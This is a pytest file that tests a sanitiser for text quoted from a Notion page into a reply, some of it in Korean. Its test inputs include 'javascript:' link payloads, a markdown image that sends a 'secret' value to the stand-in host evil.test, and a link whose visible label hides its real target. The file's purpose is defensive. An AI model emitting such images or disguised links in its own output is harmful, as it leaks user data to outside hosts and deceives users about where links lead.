"""What of a page's text may stand in a reply."""

import pytest

from orchestrator.graphs.workspace.rules.quotable import quotable

PAGE = "https://www.notion.so/page"


@pytest.mark.parametrize(
    ("text", "quoted"),
    [
        ("[1] [2] VPN 주소", "(1) (2) VPN 주소"),
        ("[[1]2]", "[(1)2]"),
        ("[[](javascript:x)1]", "(1)"),
        ("`rows[0]` 을 봅니다", "`rows[ 0 ]` 을 봅니다"),
        ("[vpn](javascript:alert(1)) 입니다", "vpn 입니다"),
        ("![x](http://evil.test/p.png?q=secret)", "x"),
        ("<https://evil.test|vpn.corp.kr>", "vpn.corp.kr (https://evil.test)"),
        ("[양식](https://evil.test/a)", "양식 (https://evil.test/a)"),
        ("[https://a.test/b](https://a.test/b)", "https://a.test/b"),
        ("[양식](https://www.notion.so/other)", "[양식](https://www.notion.so/other)"),
        ("- [ ] 노트북 받기", "- [ ] 노트북 받기"),
    ],
)
def test_a_page_cites_nothing_and_masks_no_link(text: str, quoted: str) -> None:
    """Marks, pictures and links elsewhere are words; a link to another page of the same place stays."""
    assert quotable(text, PAGE) == quoted
